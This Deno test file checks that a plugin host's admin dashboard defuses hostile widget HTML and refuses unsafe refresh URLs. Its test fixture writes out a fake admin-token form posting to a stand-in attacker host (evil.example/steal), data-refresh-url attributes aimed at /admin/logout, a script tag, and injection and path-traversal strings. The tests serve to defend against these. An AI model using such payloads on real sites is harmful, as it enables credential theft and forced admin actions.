// Issue 10 item 8: a widget's HTML made the dashboard script load any
// data-refresh-url and write the answer unsanitised (a fake "enter admin
// token" form). Now widget HTML keeps no data-* attribute, the dashboard
// refreshes a widget only from the host's own endpoint for it, and that
// endpoint sanitises every answer.

import { REFRESH_PATH_REGEXP } from "../host/server/html.ts";
import {
  assert,
  assertEquals,
  assertMatch,
  nativePlugin,
  setup,
} from "./server_helpers.ts";

/** The attack, varied on every render so the refresh answer differs. */
const hostileHtml = (n: number) =>
  `<div class="card" data-refresh-url="https://evil.example/x" data-refresh-sec="1"` +
  ` data-gk-refresh-url="/admin/logout" data-gk-refresh-sec="1" data-gk-refresh-now="widget-hello-clock">` +
  `<p class="ok">render ${n}</p>` +
  `<span data-refresh-url="/admin/logout" DATA-GK-REFRESH-URL="https://evil.example/y">x</span>` +
  `<form action="https://evil.example/steal" method="post"><p>Session expired: enter your admin token</p>` +
  `<input name="token" type="password"><button type="submit">Log in</button></form>` +
  `<div data-gk-plugin-html><tbody data-gk-refresh-url="/admin/logs/rows" data-gk-refresh-sec="1"></tbody></div>` +
  `<script>window.pwned = 1</script></div>`;

function hostile() {
  let renders = 0;
  return nativePlugin({
    name: "evil",
    version: "1.0.0",
    widgets: [
      {
        id: "w",
        title: "Evil",
        handler: "w",
        location: "dashboard",
        refreshable: true,
        refresh_sec: 1,
      },
      {
        id: "static",
        title: "Static",
        handler: "w",
        location: "dashboard",
      },
    ],
  }, { w: () => ({ html: hostileHtml(++renders) }) });
}

/** Asserts nothing of the attack survived in `html` (a page or a fragment). */
function assertDefused(html: string, where: string) {
  for (
    const bad of [
      "evil.example",
      "data-refresh-url",
      "data-refresh-sec",
      'refresh-url="/admin/logout"',
      "<form",
      "<input",
      "<script",
      "<button",
    ]
  ) {
    assert(!html.toLowerCase().includes(bad.toLowerCase()), `${where}: ${bad}`);
  }
}

Deno.test("hostile: widget data-* refresh URLs and a fake token form never reach the dashboard", async () => {
  const t = await setup();
  try {
    await t.manager.register(hostile());
    const res = await t.req("GET", "/admin/dashboard", {
      token: t.adminToken,
    });
    assertEquals(res.status, 200);
    const page = await res.text();
    assertMatch(page, /render 1/); // the widget is shown…
    // …without the attack: in its card…
    const cards = page.match(/<section class="widget[\s\S]*?<\/section>/g);
    assertEquals(cards?.length, 2);
    for (const card of cards!) assertDefused(card, "widget card");
    // …nor anywhere on the page (the host's own script tag aside).
    assertDefused(
      page.replace('<script src="/static/admin.js" defer></script>', ""),
      "dashboard",
    );
    // The only refresh URLs on the page are the ones the host built: the
    // refreshable widget's own endpoint, and only on its host-made body.
    const urls = [...page.matchAll(/data-gk-refresh-url="([^"]*)"/g)].map((
      m,
    ) => m[1]);
    assertEquals(urls, ["/admin/widgets/evil/w"]);
    assert(urls.every((u) => REFRESH_PATH_REGEXP.test(u!)));
    assertMatch(
      page,
      /<div class="body" id="widget-evil-w" data-gk-plugin-html data-gk-refresh-url="\/admin\/widgets\/evil\/w" data-gk-refresh-sec="1">/,
    );
    // The plugin's own data-gk-plugin-html marker was stripped as well: only
    // the host's markers (one per widget) are left.
    assertEquals(page.match(/data-gk-plugin-html/g)?.length, 2);
    // No refresh-now hooks from the plugin either.
    assert(!page.includes("data-gk-refresh-now"));
  } finally {
    await t.close();
  }
});

Deno.test("hostile: the widget refresh endpoint sanitises every answer and needs a login", async () => {
  const t = await setup();
  try {
    await t.manager.register(hostile());
    for (const n of [1, 2]) {
      const res = await t.req("GET", "/admin/widgets/evil/w", {
        token: t.userToken, // any logged-in user sees the dashboard
      });
      assertEquals(res.status, 200);
      assertMatch(res.headers.get("content-type")!, /^text\/html/);
      assertMatch(res.headers.get("content-security-policy")!, /script-src/);
      const html = await res.text();
      assertMatch(html, new RegExp(`render ${n}`)); // a fresh render each time
      assertDefused(html, `refresh ${n}`);
      assert(!html.includes("data-"), `refresh ${n}: a data-* attribute`);
    }
    // Not logged in: no widget, a redirect to the login page.
    const anon = await t.req("GET", "/admin/widgets/evil/w");
    assertEquals(anon.status, 303);
    assertMatch(anon.headers.get("location")!, /^\/login/);
    await anon.body?.cancel();
    // Unknown widget or plugin: 404 with an escaped message.
    const missing = await t.req(
      "GET",
      "/admin/widgets/evil/%3Cimg%20src%3Dx%3E",
      { token: t.adminToken },
    );
    assertEquals(missing.status, 404);
    const text = await missing.text();
    assert(!text.includes("<img"), text);
    // The plugin was called once per render and the host is still serving.
    const health = await t.req("GET", "/healthz");
    assertEquals(health.status, 200);
    await health.body?.cancel();
  } finally {
    await t.close();
  }
});

Deno.test("the admin script follows only same-origin /admin/ refresh paths, checked after parsing", () => {
  const ok = [
    "/admin/widgets/evil/w",
    "/admin/widgets/hello-c/hello-c-widget",
    "/admin/logs/rows?plugin=x&level=warn&limit=50",
  ];
  const refused = [
    "https://evil.example/x",
    "//evil.example/admin/widgets/a/b",
    "/admin/logout",
    "/admin/plugins/evil/uninstall",
    "/api/plugins/evil/raw",
    "/admin/widgets/a/b/c",
    "/admin/widgets/a\\b/c",
    "javascript:alert(1)",
    "/admin/logs/rows#x",
  ];
  for (const u of ok) assert(REFRESH_PATH_REGEXP.test(u), u);
  for (const u of refused) assert(!REFRESH_PATH_REGEXP.test(u), u);
  // Dot segments pass the raw check but not the check after parsing,
  // which the script applies to the parsed path.
  const sneaky = "/admin/widgets/../logout";
  assert(REFRESH_PATH_REGEXP.test(sneaky));
  const parsed = new URL(sneaky, "http://host.test");
  assert(!REFRESH_PATH_REGEXP.test(parsed.pathname + parsed.search));
});
